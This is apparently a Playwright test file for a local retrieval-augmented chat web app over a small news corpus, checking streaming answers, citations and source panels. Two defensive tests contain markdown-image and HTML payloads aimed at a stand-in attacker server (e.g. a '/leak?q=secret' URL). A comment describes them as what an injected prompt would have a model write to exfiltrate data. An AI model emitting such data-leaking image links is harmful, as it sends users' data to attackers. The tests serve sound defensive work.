"""The page in headless Chromium: ask, watch the answer arrive, click [n], see that source; examples; clear.

Playwright drives Debian's /usr/bin/chromium (its own browser download is unreachable here), launched once
per session by conftest's `browser` fixture: without it the tests skip, unless CI is set.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.ui_helpers import CORPUS_QUESTION, OUTPUT_DIR

pytestmark = [pytest.mark.browser, pytest.mark.slow]

ANSWER_TIMEOUT_MS = 30_000
# Records whether the "searching" or "streaming" state of a reply was ever in the page, since it may
# be replaced before a test could look for it.
WATCH_STATES = """
window.__replyStates = new Set();
new MutationObserver(() => {
  for (const state of ["pending", "streaming"]) {
    if (document.querySelector(`#chat .answer.${state}`)) window.__replyStates.add(state);
  }
}).observe(document, { childList: true, subtree: true });
"""


@pytest.fixture
def page(browser: Any, ui_url: str) -> Iterator[Any]:
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    page = context.new_page()
    page.add_init_script(WATCH_STATES)
    page.elsewhere = []  # requests to anywhere but the app: there must be none (offline, no phoning home)
    app_host = urlsplit(ui_url).netloc
    page.on("request", lambda r: r.url.startswith(("data:", "blob:")) or urlsplit(r.url).netloc == app_host
            or page.elsewhere.append(r.url))  # fmt: skip
    page.goto(ui_url)
    page.wait_for_selector("#question textarea")
    yield page
    context.close()


def test_ask_see_the_answer_click_a_citation_see_its_source(page: Any) -> None:
    assert "Index ready" in page.inner_text("#app-header") and "5 articles" in page.inner_text("#app-header")

    page.fill("#question textarea", CORPUS_QUESTION)
    page.keyboard.press("Enter")
    link = page.locator("#chat a.cite").first
    link.wait_for(timeout=ANSWER_TIMEOUT_MS)

    reply = page.locator("#chat .answer").last.inner_text()
    assert "15%" in reply and "offline extractive" in reply
    assert page.evaluate("[...window.__replyStates]"), "no 'searching'/'streaming' state was ever shown"

    target = link.get_attribute("href").lstrip("#")
    link.click()
    source = page.locator(f"#sources-panel #{target}")
    page.wait_for_selector(f"#sources-panel #{target}.selected", timeout=5_000)
    assert source.is_visible() and len(page.context.pages) == 1  # shown in place, not in a new tab
    assert "Moomoo News Global" in source.inner_text()
    assert "15% over the next twelve months" in " ".join(source.locator("mark").all_inner_texts())
    assert page.locator("#sources-panel details.uncited").count() == 1
    assert not page.locator("#sources-panel details.uncited").first.evaluate("el => el.open")

    OUTPUT_DIR.mkdir(exist_ok=True)
    shot = OUTPUT_DIR / "ui.png"
    page.screenshot(path=str(shot), full_page=True)
    print(f"screenshot: {shot}")
    assert page.elsewhere == []


def test_example_question_then_clear(page: Any) -> None:
    page.get_by_text("Which Goldman Sachs analyst spoke to Yahoo Finance", exact=False).first.click()
    page.locator("#chat a.cite").first.wait_for(timeout=ANSWER_TIMEOUT_MS)
    assert "Ben Snider" in page.locator("#chat .answer").last.inner_text()
    assert page.locator("#sources-panel .source").count() >= 1

    page.click("#clear")
    page.wait_for_selector("#sources-panel .sources-empty", timeout=5_000)
    assert page.locator("#chat .answer").count() == 0
    assert page.elsewhere == []


# Records the question's bubble as it stands while its reply is pending: the page draws both before the server answers.
WATCH_PENDING_QUESTION = """
new MutationObserver(() => {
  const questions = document.querySelectorAll("#chat .question");
  if (document.querySelector("#chat .answer.pending") && questions.length) {
    window.__pendingQuestion = questions[questions.length - 1].innerText;
  }
}).observe(document, { childList: true, subtree: true });
"""


def test_a_question_shows_at_once_as_the_text_typed_and_fetches_nothing(
    page: Any, outside: tuple[str, list[str]]
) -> None:
    address, heard = outside
    typed = f'Small caps <img src="{address}/img"> ![x]({address}/leak) & "bonds"?'
    page.evaluate(WATCH_PENDING_QUESTION)
    page.fill("#question textarea", typed)
    page.keyboard.press("Enter")
    page.wait_for_selector("#chat .answer:not(.pending):not(.streaming) .meta", timeout=ANSWER_TIMEOUT_MS)
    assert page.evaluate("window.__pendingQuestion") == typed  # drawn by the page (assets.SHOW_PENDING), as text
    assert page.locator("#chat .question").last.inner_text() == typed  # and as the server draws it
    assert page.locator(f'#chat [src*="{address}"], #chat [href*="{address}"]').count() == 0
    assert heard == [] and page.elsewhere == []


@pytest.fixture
def outside() -> Iterator[tuple[str, list[str]]]:
    """A server standing in for an attacker's, on its own loopback port: (its URL, the paths it was asked for)."""
    heard: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", heard
    server.shutdown()
    server.server_close()


def test_markdown_smuggled_after_a_carriage_return_stays_text_and_fetches_nothing(
    browser: Any, built_index: Any, local_embedder: Any, outside: tuple[str, list[str]]
) -> None:
    # What an injected prompt would have a model write: a blank line ("\r\r"), then an image whose URL carries data.
    from rag import Assistant
    from tests.conftest import CORPUS_DIR
    from tests.fakes import ScriptedAnswerer
    from tests.ui_helpers import serve

    address, heard = outside
    leak = f"![x]({address}/leak?q=secret)"
    answerer = ScriptedAnswerer(
        f"Small caps look cheap.\r\r{leak} [1]", title=f"Caps\r\r{leak}", notice=f"Note.\r\r{leak}"
    )
    assistant = Assistant(data_dir=built_index, corpus_dir=CORPUS_DIR, show_progress=False, embedder=local_embedder,
                          answerer=answerer)  # fmt: skip
    app, url = serve(assistant)
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    try:
        page = context.new_page()
        elsewhere: list[str] = []
        page.on("request", lambda r: r.url.startswith(("data:", "blob:")) or urlsplit(r.url).netloc == urlsplit(url).netloc
                or elsewhere.append(r.url))  # fmt: skip
        page.goto(url)
        page.wait_for_selector("#question textarea")
        page.fill("#question textarea", CORPUS_QUESTION)
        page.keyboard.press("Enter")
        page.wait_for_selector("#chat .answer:not(.pending):not(.streaming) .meta", timeout=ANSWER_TIMEOUT_MS)

        reply = page.locator("#chat .answer").last
        assert reply.locator("a.cite").evaluate_all("els => els.map(e => e.getAttribute('href'))") == ["#src-0-1"]
        assert leak in reply.inner_text() and 'class="cite"' not in reply.inner_text()  # shown as text, not run
        assert page.locator(f'#chat [src*="{address}"], #chat [href*="{address}"]').count() == 0
        assert elsewhere == [] and heard == []
    finally:
        context.close()
        app.close()


# Records, while a reply streams, each length its text reaches: several lengths = it arrived in pieces.
WATCH_STREAMED_LENGTHS = """
window.__streamedLengths = new Set();
new MutationObserver(() => {
  const streaming = document.querySelector("#chat .answer.streaming");
  if (streaming) window.__streamedLengths.add(streaming.innerText.length);
}).observe(document, { childList: true, subtree: true, characterData: true });
"""


@pytest.fixture(scope="module")
def llm_ui_url(llama_server: Any, built_index: Any, local_embedder: Any) -> Iterator[str]:
    """The chat app answering through the real llama.cpp server (SmolLM2-135M)."""
    from rag import Assistant
    from tests.conftest import CORPUS_DIR
    from tests.ui_helpers import serve

    assistant = Assistant(data_dir=built_index, corpus_dir=CORPUS_DIR, show_progress=False, embedder=local_embedder,
                          openai_base_url=llama_server.url, llm_model=llama_server.model, llm_context_tokens=4096,
                          llm_answer_tokens=96, llm_timeout_seconds=120.0, llm_max_retries=0)  # fmt: skip
    app, url = serve(assistant)
    yield url
    app.close()


@pytest.mark.llama
def test_a_real_model_streams_into_the_page_and_its_citations_resolve_at_the_end(browser: Any, llm_ui_url: str):
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    page = context.new_page()
    page.add_init_script(WATCH_STATES + WATCH_STREAMED_LENGTHS)
    page.goto(llm_ui_url)
    page.wait_for_selector("#question textarea")
    assert "smollm2" in page.inner_text("#app-header")

    page.fill("#question textarea", "small caps vs big tech over the summer of 2024, who came out ahead?")
    page.keyboard.press("Enter")
    page.wait_for_selector("#chat .answer:not(.pending):not(.streaming) .meta", timeout=120_000)

    assert "streaming" in page.evaluate("[...window.__replyStates]")
    lengths = page.evaluate("[...window.__streamedLengths]")
    assert len(lengths) >= 3, f"the text did not arrive in pieces: {lengths}"
    reply = page.locator("#chat .answer").last
    assert "caret" not in reply.inner_html()
    links = reply.locator("a.cite")
    if links.count():  # each [n] resolved to a source card in the panel
        for href in links.evaluate_all("els => els.map(e => e.getAttribute('href'))"):
            assert page.locator(f"#sources-panel {href}").count() == 1
    else:  # the weak model cited nothing: the page says so
        assert "cited none of the sources" in reply.inner_text() or "do not say" in reply.inner_text()
    OUTPUT_DIR.mkdir(exist_ok=True)
    page.screenshot(path=str(OUTPUT_DIR / "ui-llm.png"), full_page=True)
    context.close()
